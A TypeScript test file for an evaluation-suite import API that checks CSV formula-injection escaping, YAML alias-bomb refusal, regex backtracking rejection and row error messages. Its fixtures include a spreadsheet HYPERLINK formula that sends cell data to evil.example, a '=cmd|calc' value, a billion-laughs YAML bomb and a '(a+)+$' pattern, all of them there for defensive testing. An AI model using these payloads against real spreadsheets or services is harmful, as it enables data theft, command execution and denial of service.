import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ADMIN_PASSWORD,
  type Client,
  memberClient,
  signIn,
  startTestApp,
  type TestApp,
} from '../../../../test/helpers/app';
import { fixtureArticles, loadArticles } from '../../../../test/helpers/articles';
import { dialects } from '../../../../test/helpers/databases';

// What a suite import refuses and how it says so, on both engines: formula cells in CSV, variables
// that are no object, repeated header columns, YAML aliases (resolved) and alias bombs (refused),
// and the wording of a bad row.

const TOPIC = 'Robotics';
const BASE = '/api/evals/suites';
const aCase = (i: number, extra: Record<string, unknown> = {}) => ({
  query: `How are companies adopting robots, part ${i}?`,
  topic: TOPIC,
  ...extra,
});

describe.each(dialects)('suite import checks on $dialect', ({ create }) => {
  let t: TestApp;
  let alice: Client;

  beforeAll(async () => {
    t = await startTestApp(await create());
    await loadArticles(t.ctx, TOPIC, fixtureArticles('Robotics', 3));
    const admin = await signIn(t, 'admin', ADMIN_PASSWORD);
    alice = await memberClient(t, admin, 'alice');
  });
  afterAll(() => t.close());

  const make = async (name: string, cases: unknown[] = [aCase(1)]) => {
    const res = await alice('POST', BASE, { name, description: 'Questions that matter', cases });
    expect(res.statusCode, res.body).toBe(201);
    return res.json();
  };

  // Each starts with what a spreadsheet would run as a formula, or with a quote of its own.
  const formulaCases = [
    aCase(1, { query: '=HYPERLINK("http://evil.example/?"&A1,"Click for more robots")' }),
    aCase(2, { query: '+1+1 robots in the factories of today?', tags: ['-risk', '@team'] }),
    aCase(3, { query: '-2 robots per line: is that the norm?', description: '@mention the plant' }),
    aCase(4, { query: '@robots: who mentions them most?', reference: '\tTabbed reference\r' }),
    aCase(5, { query: "'=quoted already: how do robots fare?" }),
    aCase(6, {
      query: "'Tis the season for robots, is it not?",
      variables: { who: '=cmd|calc' },
      reference: '\rfirst',
    }),
  ];

  it('writes no CSV cell that opens as a formula, and imports the export back unchanged', async () => {
    const source = await make('Formulas', formulaCases);
    const exported = await alice('GET', `${BASE}/${source.id}/export?format=csv`);
    const { parse } = await import('csv-parse/sync');
    const cells = (parse(exported.body, { relax_column_count: true }) as string[][]).slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells.slice(0, 7 * 5 + 1).filter((_, i) => i % 7 === 0)).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"Click for more robots")',
      "'+1+1 robots in the factories of today?",
      "'-2 robots per line: is that the norm?",
      "'@robots: who mentions them most?",
      "''=quoted already: how do robots fare?",
      "'Tis the season for robots, is it not?",
    ]);
    const target = await make('Formulas back', []);
    const imported = await alice('POST', `${BASE}/${target.id}/import`, {
      format: 'csv',
      content: exported.body,
    });
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json().cases).toEqual(formulaCases);
  });

  it('resolves YAML anchors, aliases and merge keys anywhere in the file', async () => {
    const suite = await make('YAML aliases', []);
    const content = [
      'defaults: &defaults',
      `  topic: ${TOPIC}`,
      '  audience: executives',
      'checks: &checks',
      '  - type: icontains',
      '    value: robot',
      'tests:',
      '  - vars:',
      '      <<: *defaults',
      `      query: ${aCase(1).query}`,
      '    assert: *checks',
      '  - vars: &second',
      '      <<: *defaults',
      '      audience: analysts',
      `      query: ${aCase(2).query}`,
      '  - vars: *second',
      ...Array.from({ length: 300 }, (_, i) => [
        '  - vars:',
        '      <<: *defaults',
        `      query: ${aCase(i + 3).query}`,
      ]).flat(),
    ].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'yaml', content });
    expect(res.statusCode, res.body).toBe(200);
    const vars = (audience: string) => ({ variables: { audience } });
    expect(res.json().cases.slice(0, 4)).toEqual([
      aCase(1, { ...vars('executives'), assertions: [{ type: 'icontains', value: 'robot' }] }),
      aCase(2, vars('analysts')),
      aCase(2, vars('analysts')),
      aCase(3, vars('executives')),
    ]);
    expect(res.json().imported).toBe(303);
  });

  it('refuses a YAML alias bomb with a 400 naming it, before it expands', async () => {
    const suite = await make('YAML bomb');
    // Nine levels of nine aliases each: 9^9 (387 million) strings if it were ever expanded.
    const lines = ['a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
    for (let i = 1; i <= 9; i++)
      lines.push(
        `a${i}: &a${i} [${Array(9)
          .fill(`*a${i - 1}`)
          .join(', ')}]`,
      );
    lines.push('tests:', `  - vars: {query: "${aCase(1).query}", topic: ${TOPIC}, laughs: *a9}`);
    const res = await alice('POST', `${BASE}/${suite.id}/import`, {
      format: 'yaml',
      content: lines.join('\n'),
    });
    expect({ status: res.statusCode, detail: res.json().detail }).toEqual({
      status: 400,
      detail:
        'YAML refused: its aliases (*name) expand to more than 1000 copies of what they point to, as an alias bomb does',
    });
    expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
  });

  it('refuses a YAML file whose few aliases of a large anchor expand past what an import takes', async () => {
    const suite = await make('YAML wide');
    // 1 MB of variables under one anchor, named by 25 tests: 25 MB once expanded, from a 1 MB file.
    const keys = Array.from({ length: 100 }, (_, i) => `    k${i}: ${'x'.repeat(9_000)}`);
    const tests = Array.from(
      { length: 25 },
      (_, i) => `  - vars: {<<: *big, query: "${aCase(i).query}", topic: ${TOPIC}}`,
    );
    const content = ['shared: &big', ...keys, 'tests:', ...tests].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'yaml', content });
    expect({ status: res.statusCode, detail: res.json().detail }).toEqual({
      status: 400,
      detail:
        'YAML refused: its aliases (*name) expand to more than 20 MB of tests, the most an import takes',
    });
    expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
  });

  it('refuses a CSV variables cell that is not a JSON object, by line and reason', async () => {
    const suite = await make('Bad variables');
    const row = (variables: string) => `"${aCase(1).query}",${TOPIC},"${variables.replaceAll('"', '""')}"`;
    const content = [
      'query,topic,variables',
      row('{"audience": "analysts"}'),
      row('["analysts", "executives"]'),
      row('42'),
      row('"analysts"'),
      row('null'),
    ].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'csv', content });
    const must = 'variables must be a JSON object such as {"audience": "analysts"}, not';
    expect({ status: res.statusCode, errors: res.json().errors }).toEqual({
      status: 400,
      errors: [
        { path: 'line 3', line: 3, message: `${must} an array` },
        { path: 'line 4', line: 4, message: `${must} a number` },
        { path: 'line 5', line: 5, message: `${must} a string` },
        { path: 'line 6', line: 6, message: `${must} null` },
      ],
    });
    expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
  });

  it.each([
    ['query,topic,Query', 'query'],
    ['query,topic,tags,var.audience, tags ', 'tags'],
  ])('refuses a CSV whose header is %j, naming the column it repeats', async (header, column) => {
    const suite = await make(`Twice ${column}`);
    const content = `${header}\n"${aCase(1).query}",${TOPIC},a,b,c\n`;
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'csv', content });
    expect({ status: res.statusCode, body: res.json() }).toEqual({
      status: 400,
      body: { detail: `The CSV header names the column "${column}" twice; name every column once` },
    });
    expect((await alice('GET', `${BASE}/${suite.id}`)).json()).toMatchObject({ version: 1, case_count: 1 });
  });

  it('names a bad row’s field once, an assertion by its number, and a missing field as required', async () => {
    const suite = await make('Row messages');
    const row = (c: Record<string, unknown>) => JSON.stringify(c);
    const content = [
      row({ query: 'too short', topic: TOPIC }),
      row({ topic: TOPIC }),
      row(aCase(3, { assertions: [{ type: 'icontains', value: 'robot' }, { type: 'contains' }] })),
      row(aCase(4, { assertions: [{ type: 'regex', pattern: '(a+)+$' }, { type: 'telepathy' }] })),
      row(aCase(5, { tags: ['x'.repeat(51)], variables: { who: ['a list'] } })),
    ].join('\n');
    const res = await alice('POST', `${BASE}/${suite.id}/import`, { format: 'jsonl', content });
    expect(res.json().errors.map((e: { message: string }) => e.message)).toEqual([
      'query must be 10–1000 characters',
      'query is required',
      'assertion 2: value is required',
      'assertion 1: regex refused: a repetition inside a repetition, such as (a+)+ or (\\w+\\s?)*, can backtrack catastrophically; simplify the pattern; assertion 2: unknown assertion type',
      'variables.who: Invalid input; tags.0: a tag must be at most 50 characters',
    ]);
  });
});
